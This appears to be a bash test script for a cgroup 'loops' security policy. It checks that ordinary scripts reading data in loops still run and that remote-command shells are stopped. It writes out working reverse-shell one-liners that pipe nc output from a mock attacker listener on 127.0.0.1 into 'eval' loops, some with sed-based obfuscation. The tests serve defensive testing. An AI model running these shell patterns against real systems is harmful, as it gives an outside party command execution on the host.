# SPDX-License-Identifier: GPL-2.0-only
# Loops in the scripts of services that keep a connection: who wrote "x | while read"
# wrote the loop, whatever else the container receives meanwhile.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
policy=loops
cg=$(cgroup one)

cat >echo.py <<'END'
import socket, threading
s = socket.create_server(("127.0.0.1", 4360))
def serve(c):
    while data := c.recv(4096):
        c.sendall(data)
while True:
    threading.Thread(target=serve, args=[s.accept()[0]], daemon=True).start()
END
$python echo.py &
poll bash -c "ss -Hltn 'sport = :4360' | grep -q ."

# beat: something is received all the time.
cat >service.py <<'END'
import os, socket, subprocess, sys, threading, time
connection = socket.create_connection(("127.0.0.1", 4360))
def beat():
    while True:
        connection.sendall(b"beat\n")
        connection.recv(99)
        socket.create_connection(("127.0.0.1", 4360)).close()
        time.sleep(.05)
threading.Thread(target=beat, daemon=True).start()
kind, script = sys.argv[1:]
if kind == "pipe":
    p = subprocess.Popen([script], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    out = p.stdout.read()
elif kind == "line":
    p = subprocess.Popen(["bash", "-c", open(script).read()], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    out = p.stdout.read()
else:
    pairs = [socket.socketpair() for _ in range(3)]
    p = subprocess.Popen([script], **dict(zip(("stdin", "stdout", "stderr"), (pair[1] for pair in pairs))))
    pairs[1][1].close()
    out = b""
    while new := pairs[1][0].recv(4096):
        out += new
print(out.decode(), p.wait())
END

cat >script <<'END'
#!/bin/bash
log() { while read -r line; do echo "row $line"; done; }
for i in 1 2 3; do echo "r$i"; sleep 0.5; done | log | tail -n 2
while read -r line; do echo "row $line"; done < <(for i in 4 5 6; do echo "r$i"; sleep 0.5; done) 2>&1
echo end-$((40+2))
END
chmod +x script
for kind in pipe line pairs; do
	contains "without a policy: $kind" end-42 in_cgroup "$cg" $python service.py $kind "$dir/script"
done
govern loops "$cg" <<<'shells: {reverse: deny, bind: deny, connect: deny}'
for kind in pipe line pairs; do
	allowed "a loop in a script: $kind" in_cgroup "$cg" $python service.py $kind "$dir/script"
	contains "$kind: it has run" 'row r3' echo "$out"
	contains "$kind: and the script itself reads" 'row r6' echo "$out"
	contains "$kind: to its end" end-42 echo "$out"
done

# A service that is started with its connection, while another one receives
cat >inetd.py <<'END'
import socket, subprocess, sys
s = socket.create_server(("127.0.0.1", 4361))
print("listens", flush=True)
c = s.accept()[0]
subprocess.run([sys.argv[1]], stdin=c, stdout=c, stderr=c)
END
ask() {
	in_cgroup "$cg" $python inetd.py "$dir/script" >listens &
	local inetd=$!
	poll grep -q listens listens
	in_cgroup "$cg" $python service.py pipe "$dir/script" >/dev/null &
	$python -c 'import socket
c = socket.create_connection(("127.0.0.1", 4361))
while data := c.recv(4096):
    print(data.decode(), end="")'
	wait $inetd $!
}
allowed 'a loop in a service of inetd' ask
contains 'it has run' end-42 echo "$out"

# A loop that reads what its script fetches, for who started it and has a connection
cat >rows.py <<'END'
import socket, threading, time
s = socket.create_server(("127.0.0.1", 4363))
def serve(c):
    for i in range(4):
        c.sendall(b"r%d\n" % i)
        time.sleep(0.5)
    c.close()
while True:
    threading.Thread(target=serve, args=[s.accept()[0]], daemon=True).start()
END
$python rows.py &
poll bash -c "ss -Hltn 'sport = :4363' | grep -q ."
cat >script <<'END'
#!/bin/bash
nc -d 127.0.0.1 4363 | while read -r line; do echo "row $line"; done
while read -r line; do echo "own $line"; done < <(nc -d 127.0.0.1 4363 | cat) | tail -n 2
echo end-$((40+2))
END
for kind in pipe line pairs; do
	allowed "a loop that reads what is fetched: $kind" in_cgroup "$cg" $python service.py $kind "$dir/script"
	contains "$kind: it has run" 'row r3' echo "$out"
	contains "$kind: and the script itself reads" 'own r3' echo "$out"
	contains "$kind: to its end" end-42 echo "$out"
done

# What must not pass: the loop takes its commands from the other end.
attacker='import socket, sys
s = socket.create_server(("127.0.0.1", 4362))
s.settimeout(10)
print("ready", flush=True)
try:
    c = s.accept()[0]
    c.settimeout(8)
    c.sendall(sys.argv[1].encode() + b"\n")
    print("owned" if b"GOT42" in c.recv(4096) else "nothing", flush=True)
except OSError:
    print("nothing", flush=True)'
mkfifo fifo
attack() {
	rm -f said
	$python -c "$attacker" "${3:-echo GOT\$((40+2))}" >said &
	local listens=$!
	poll grep -q ready said
	in_cgroup "$1" bash -c "$2" >/dev/null 2>&1 </dev/null &
	wait $listens
	pkill -x nc
	cat said
}
relay='nc 127.0.0.1 4362 <fifo | while read -r l; do eval "$l"; done >fifo 2>&1'
through='nc 127.0.0.1 4362 <fifo | cat | while read -r l; do eval "$l"; done >fifo 2>&1'
# The script itself reads what it opened, and what comes is not what it executes.
mkfifo other
coded='exchxo GxOT$((40+2))'
itself='while read -r l; do eval "$l"; done < <(nc 127.0.0.1 4362 <fifo | sed -u s/x//g) >fifo 2>&1'
named='nc 127.0.0.1 4362 <fifo | sed -u s/x//g >other & while read -r l; do eval "$l"; done <other >fifo 2>&1'
free=$(cgroup free)
for name in itself named; do
	contains "without a policy: $name" owned attack "$free" "${!name}" "$coded"
	lacks "$name: is stopped" owned attack "$cg" "${!name}" "$coded"
done
# Who started it feeds it as well, or what feeds it has his connection. The loop waits
# by the time that something is received.
cat >starts.py <<'END'
import os, socket, subprocess, sys, threading, time
s = socket.create_connection(("127.0.0.1", 4362))
r, w = os.pipe()
os.dup2(r if sys.argv[1] == "feeds" else s.fileno(), 7)
loop = '(sleep 2; exec cat <&7) | sed -u s/x//g | while read -r l; do eval "$l"; done'
p = subprocess.Popen(["bash", "-c", loop], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, pass_fds=[7])
def feed():
    time.sleep(2)
    while data := s.recv(4096):
        os.write(w, data)
if sys.argv[1] == "feeds":
    threading.Thread(target=feed, daemon=True).start()
while data := os.read(p.stdout.fileno(), 4096):
    s.sendall(data)
END
for name in feeds leaves; do
	contains "without a policy: who starts it $name" owned attack "$free" "$python $dir/starts.py $name" "$coded"
	lacks "who starts it $name: is stopped" owned attack "$cg" "$python $dir/starts.py $name" "$coded"
done
contains 'without a policy: the loop is a shell' owned attack "$free" "$relay"
contains 'without a policy: behind cat' owned attack "$free" "$through"
lacks 'the loop is a shell: is stopped' owned attack "$cg" "$relay"
lacks 'behind cat: is stopped' owned attack "$cg" "$through"
